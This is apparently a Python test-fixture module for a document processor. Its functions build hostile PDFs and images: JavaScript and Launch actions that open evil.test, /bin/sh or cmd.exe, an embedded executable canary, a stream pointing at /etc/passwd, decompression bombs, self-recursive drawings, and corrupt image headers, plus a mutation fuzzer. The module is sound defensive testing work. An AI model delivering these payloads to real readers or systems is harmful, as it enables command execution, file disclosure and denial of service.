# SPDX-License-Identifier: GPL-3.0-or-later
"""Documents as an attacker, or a bad disk, would make them. Each function writes what it is named
after; nothing here needs a library but zlib."""

import random
import struct
import zlib


def pdf(objects, root=1, trailer=b''):
    """A PDF of numbered objects ({number: bytes}), with a right cross-reference table."""
    out = bytearray(b'%PDF-1.7\n')
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b'%d 0 obj\n%s\nendobj\n' % (number, body)
    start = len(out)
    size = max(objects) + 1
    out += b'xref\n0 %d\n' % size
    for number in range(size):
        if number in places:
            out += b'%010d 00000 n \n' % places[number]
        else:
            out += b'0000000000 65535 f \n'
    out += b'trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n' % (size, root, trailer,
                                                                            start)
    return bytes(out)


def stream(data, extra=b''):
    return b'<</Length %d%s>>\nstream\n%s\nendstream' % (len(data), extra, data)


FONT = b'<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'


def plain_pdf(texts=('Attestation de droits',), catalog=b'', page=b'', more=None):
    """One A4 page for each text."""
    objects = dict(more or {})
    kids = []
    objects[3] = FONT
    for i, text in enumerate(texts):
        number = 10 + 2 * i
        kids.append(b'%d 0 R' % number)
        content = b'BT /F 24 Tf 72 720 Td (%s) Tj ET' % text.encode('latin-1')
        objects[number] = (b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents %d 0 R'
                           b'/Resources<</Font<</F 3 0 R>>>>%s>>' % (number + 1, page))
        objects[number + 1] = stream(content)
    objects[1] = b'<</Type/Catalog/Pages 2 0 R%s>>' % catalog
    objects[2] = b'<</Type/Pages/Count %d/Kids[%s]>>' % (len(kids), b' '.join(kids))
    return pdf(objects)


def javascript():
    return plain_pdf(catalog=b'/OpenAction<</S/JavaScript/JS(app.launchURL\\("http://evil.test"\\))>>')


def launch():
    action = b'<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>'
    link = (b'/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A%s>>]' % action)
    return plain_pdf(catalog=b'/OpenAction' + action, page=link)


def embedded_file():
    return plain_pdf(catalog=b'/Names<</EmbeddedFiles<</Names[(x.exe)50 0 R]>>>>',
                     more={50: b'<</Type/Filespec/F(x.exe)/EF<</F 51 0 R>>>>',
                           51: stream(b'MZ embedded canary', b'/Type/EmbeddedFile')})


def remote_content():
    """Reads files and asks for addresses, wherever a reader may be tempted to."""
    return plain_pdf(catalog=b'/AA<</WC<</S/URI/URI(http://evil.test/)>>>>'
                             b'/OpenAction<</S/GoToR/F(//evil.test/share/x.pdf)/D[0/Fit]>>',
                     page=b'/AA<</O<</S/SubmitForm/F(http://evil.test/form)>>>>',
                     more={60: b'<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream'})


def many_pages(count):
    objects = {1: b'<</Type/Catalog/Pages 2 0 R>>', 3: stream(b'')}
    numbers = range(10, 10 + count)
    for number in numbers:
        objects[number] = b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R>>'
    objects[2] = b'<</Type/Pages/Count %d/Kids[%s]>>' % (
        count, b' '.join(b'%d 0 R' % n for n in numbers))
    return pdf(objects)


def lying_count():
    """Says that it has two thousand million pages."""
    return plain_pdf().replace(b'/Count 1/', b'/Count 2000000000/')


def page_loop():
    return pdf({1: b'<</Type/Catalog/Pages 2 0 R>>',
                2: b'<</Type/Pages/Count 5/Kids[2 0 R 2 0 R]/Parent 2 0 R>>'})


def one_page(content, extra=b'', media=b'0 0 595 842', more=None):
    objects = {1: b'<</Type/Catalog/Pages 2 0 R>>', 2: b'<</Type/Pages/Count 1/Kids[4 0 R]>>',
               4: b'<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 5 0 R%s>>' % (media, extra),
               5: content}
    objects.update(more or {})
    return pdf(objects)


def inflate_bomb(mebibytes=400):
    """A page whose content unpacks to that much, from a few kilobytes."""
    pack = zlib.compressobj(9)
    data = bytearray()
    block = b'0 0 m 9 9 l S\n' * (1 << 16)
    for _ in range(max(1, mebibytes * (1 << 20) // len(block))):
        data += pack.compress(block)
        if len(data) > 4_000_000:
            break
    data += pack.flush()
    again = zlib.compress(bytes(data), 9)
    return one_page(stream(again, b'/Filter[/FlateDecode/FlateDecode]'))


def form_loop():
    """A drawing that draws itself, eight times each time."""
    return one_page(stream(b'/X Do'), b'/Resources<</XObject<</X 6 0 R>>>>',
                    more={6: stream(b'/X Do ' * 8, b'/Type/XObject/Subtype/Form/BBox[0 0 9 9]'
                                    b'/Resources<</XObject<</X 6 0 R>>>>')})


def form_tree(depth=16):
    """Drawings that draw the next one ten times: 10 to the power of depth in all."""
    more = {}
    for i in range(depth):
        inner = b'/X Do ' * 10 if i + 1 < depth else b'0 0 m 9 9 l S'
        more[20 + i] = stream(inner, b'/Type/XObject/Subtype/Form/BBox[0 0 9 9]'
                              b'/Resources<</XObject<</X %d 0 R>>>>' % (21 + i))
    return one_page(stream(b'/X Do'), b'/Resources<</XObject<</X 20 0 R>>>>', more=more)


def huge_page():
    return one_page(stream(b'0 0 m 9 9 l S'), media=b'0 0 99999999 99999999')


def huge_image(width=60000, height=60000):
    """One picture of some gigapixels in a few kilobytes."""
    rows = zlib.compress(zlib.compress(b'\0' * 30_000_000, 9), 9)
    image = stream(rows, b'/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8'
                   b'/ColorSpace/DeviceRGB/Filter[/FlateDecode/FlateDecode]' % (width, height))
    return one_page(stream(b'500 0 0 500 0 0 cm /I Do'), b'/Resources<</XObject<</I 6 0 R>>>>',
                    more={6: image})


def stream_image(filter_name, data, extra=b''):
    """A page with one picture compressed by @filter_name."""
    image = stream(data, b'/Type/XObject/Subtype/Image/Width 64/Height 64/BitsPerComponent 1'
                   b'/ColorSpace/DeviceGray/Filter/%s%s' % (filter_name, extra))
    return one_page(stream(b'500 0 0 500 0 0 cm /I Do'), b'/Resources<</XObject<</I 6 0 R>>>>',
                    more={6: image})


def deep_objects(depth=200_000):
    return plain_pdf(catalog=b'/X' + b'[' * depth + b']' * depth)


# --- pictures ---

def png(width, height, rows=None, depth=8, colour=0):
    """A PNG with that head; @rows: its data before compression, or a bomb of zeros."""
    def chunk(kind, data):
        return (struct.pack('>I', len(data)) + kind + data +
                struct.pack('>I', zlib.crc32(kind + data)))

    if rows is None:
        pack = zlib.compressobj(9)
        data = bytearray()
        for _ in range(60):
            data += pack.compress(b'\0' * (1 << 20))
        data += pack.flush()
    else:
        data = zlib.compress(rows, 9)
    head = struct.pack('>IIBBBBB', width, height, depth, colour, 0, 0, 0)
    return b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', head) + chunk(b'IDAT', bytes(data)) + chunk(b'IEND', b'')


def tiff(width, height, strip=b'\0' * 16, compression=1, next_directory=0, extra=()):
    """A TIFF, little-endian, of one directory (which is its own next one when asked for)."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, compression),
               (262, 3, 1, 1), (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, height),
               (279, 4, 1, len(strip)), *extra]
    at = 8 + len(strip)
    out = b'II*\0' + struct.pack('<I', at) + strip + struct.pack('<H', len(entries))
    for entry in sorted(entries):
        out += struct.pack('<HHII', *entry)
    return out + struct.pack('<I', at if next_directory else 0)


def bmp(width, height, data=b'\0' * 64):
    return (b'BM' + struct.pack('<IHHI', 54 + len(data), 0, 0, 54) +
            struct.pack('<IiiHHIIiiII', 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0) + data)


def gif(width, height):
    return (b'GIF89a' + struct.pack('<HHBBB', width, height, 0x80, 0, 0) + b'\0\0\0\xff\xff\xff' +
            b',' + struct.pack('<HHHHB', 0, 0, width, height, 0) + b'\x02\x02\x44\x01\0;')


def webp_head(width, height):
    """A lossy WebP that says it is so large, and has nothing behind its head."""
    frame = b'\x30\x01\0\x9d\x01\x2a' + struct.pack('<HH', width & 0x3fff, height & 0x3fff) + b'\0' * 20
    body = b'WEBPVP8 ' + struct.pack('<I', len(frame)) + frame
    return b'RIFF' + struct.pack('<I', len(body)) + body


def mutate(data, seed):
    """@data with some bytes changed, a piece left out, doubled or moved; the same for each seed."""
    chance = random.Random(seed)
    out = bytearray(data)
    for _ in range(chance.randint(1, 12)):
        at = chance.randrange(len(out))
        act = chance.randrange(6)
        if act < 3:
            out[at] = chance.choice((0, 0xff, 0x7f, 0x80, chance.randrange(256)))
        elif act == 3:
            del out[at:at + chance.randint(1, 200)]
        elif act == 4:
            out[at:at] = out[at:at + chance.randint(1, 200)]
        else:
            number = struct.pack('>I', chance.choice((0xffffffff, 0x7fffffff, 0x10000, 0)))
            out[at:at + 4] = number
        if len(out) < 16:
            break
    return bytes(out)
